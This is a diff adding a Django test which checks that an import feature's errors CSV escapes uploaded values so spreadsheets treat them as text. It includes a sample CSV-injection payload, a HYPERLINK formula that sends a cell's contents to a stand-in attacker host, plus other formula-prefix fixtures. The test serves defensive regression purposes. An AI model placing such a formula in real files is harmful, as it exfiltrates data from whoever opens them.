@@ -1,5 +1,8 @@
 """The import pages: operators upload, read the report, confirm; big files go through the Celery task."""
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import override_settings
@@ -210,3 +213,21 @@ def test_tasks_are_idempotent(operator, settings):
     assert import_job_run_task(job.pk) is None
     assert Member.objects.count() == 2
     assert import_job_validate_task(999999) is None
+
+
+def test_errors_csv_keeps_uploaded_text_from_becoming_formulas(operator_client, settings):
+    """Issue 11, item 6: the error table echoes the file's headers and values; a spreadsheet opening the CSV must
+    see text, not `=HYPERLINK(…)` or `@SUM(…)` formulas."""
+    settings.LANGUAGE_CODE = "en"
+    hostile_header = '=HYPERLINK("http://evil.example/?leak="&B5,"点击")'
+    upload(operator_client, f'external_id,name,"{hostile_header.replace(chr(34), chr(34) * 2)}"\nKH1,张三,x\n')
+    job = ImportJob.objects.get()
+    job.report["errors"] = [*job.report.get("errors", []), [4, "+phone", "-1 is not a number"], [5, "@tags", "\tx"]]
+    job.save()
+    body = operator_client.get(reverse("imports:import-errors", args=[job.pk])).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    cells = [value for row in rows[1:] for value in row]
+    assert f"'{hostile_header.lower()}" in cells, rows  # the reader lower-cases headers
+    assert ["4", "'+phone", "'-1 is not a number"] in rows
+    assert ["5", "'@tags", "'\tx"] in rows
+    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
